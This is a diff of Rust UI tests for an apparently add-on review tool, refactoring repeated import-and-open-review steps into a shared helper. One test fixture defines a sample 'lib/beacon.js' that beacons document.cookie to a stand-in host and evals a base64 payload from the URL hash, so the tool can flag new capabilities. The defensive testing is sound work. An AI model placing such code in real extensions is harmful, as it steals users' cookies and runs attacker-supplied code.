@@ -44,11 +44,16 @@ async fn open_import(s: &Session) -> Result<()> {
 /// Imports Tab Notes 1.0.0 and 1.0.1 and opens their review; the folder holding the XPIs is
 /// returned to keep.
 async fn open_tab_notes_pair(s: &Session) -> Result<tempfile::TempDir> {
-    let xpis = tempfile::tempdir()?;
     let v1 = mv2_addon();
-    let v2 = next_version(&v1);
-    let p1 = write_xpi(xpis.path(), "v1.xpi", &v1)?;
-    let p2 = write_xpi(xpis.path(), "v2.xpi", &v2)?;
+    open_pair(s, &v1, &next_version(&v1)).await
+}
+
+/// Imports `v1` and `v2` and opens their review; the folder holding the XPIs is returned to
+/// keep.
+async fn open_pair(s: &Session, v1: &Addon, v2: &Addon) -> Result<tempfile::TempDir> {
+    let xpis = tempfile::tempdir()?;
+    let p1 = write_xpi(xpis.path(), "v1.xpi", v1)?;
+    let p2 = write_xpi(xpis.path(), "v2.xpi", v2)?;
     open_import(s).await?;
     s.import(&p1).await?;
     s.import(&p2).await?;
@@ -286,15 +291,8 @@ async fn hidden_characters_show_as_markers_and_files_inside_a_nested_jar_are_rev
 {
     harness::bounded(async {
         let s = harness::start().await?;
-        let xpis = tempfile::tempdir()?;
         let (v1, v2) = hidden_pair();
-        let p1 = write_xpi(xpis.path(), "v1.xpi", &v1)?;
-        let p2 = write_xpi(xpis.path(), "v2.xpi", &v2)?;
-        open_import(&s).await?;
-        s.import(&p1).await?;
-        s.import(&p2).await?;
-        s.click("[data-testid=open-review]").await?;
-        s.wait_for("[data-testid=review]").await?;
+        let _xpis = open_pair(&s, &v1, &v2).await?;
 
         // The tree names the hidden character and lists the jar's file under the jar.
         let tree = s
@@ -605,20 +603,13 @@ async fn a_copied_link_opens_the_same_file_at_the_same_line() -> Result<()> {
 async fn the_capability_panel_puts_what_an_update_can_newly_do_first() -> Result<()> {
     harness::bounded(async {
         let s = harness::start().await?;
-        let xpis = tempfile::tempdir()?;
         let v1 = mv2_addon();
         let mut v2 = next_version(&v1);
         v2.files.push(AddonFile {
             path: "lib/beacon.js".into(),
             data: b"var x = location.hash;\nnavigator.sendBeacon('https://collect.example.net/b', document.cookie);\neval(atob(x));\n".to_vec(),
         });
-        let p1 = write_xpi(xpis.path(), "v1.xpi", &v1)?;
-        let p2 = write_xpi(xpis.path(), "v2.xpi", &v2)?;
-        open_import(&s).await?;
-        s.import(&p1).await?;
-        s.import(&p2).await?;
-        s.click("[data-testid=open-review]").await?;
-        s.wait_for("[data-testid=review]").await?;
+        let _xpis = open_pair(&s, &v1, &v2).await?;
 
         // The analysis arrives after the review opens; the new host and the new eval lead.
         eventually(
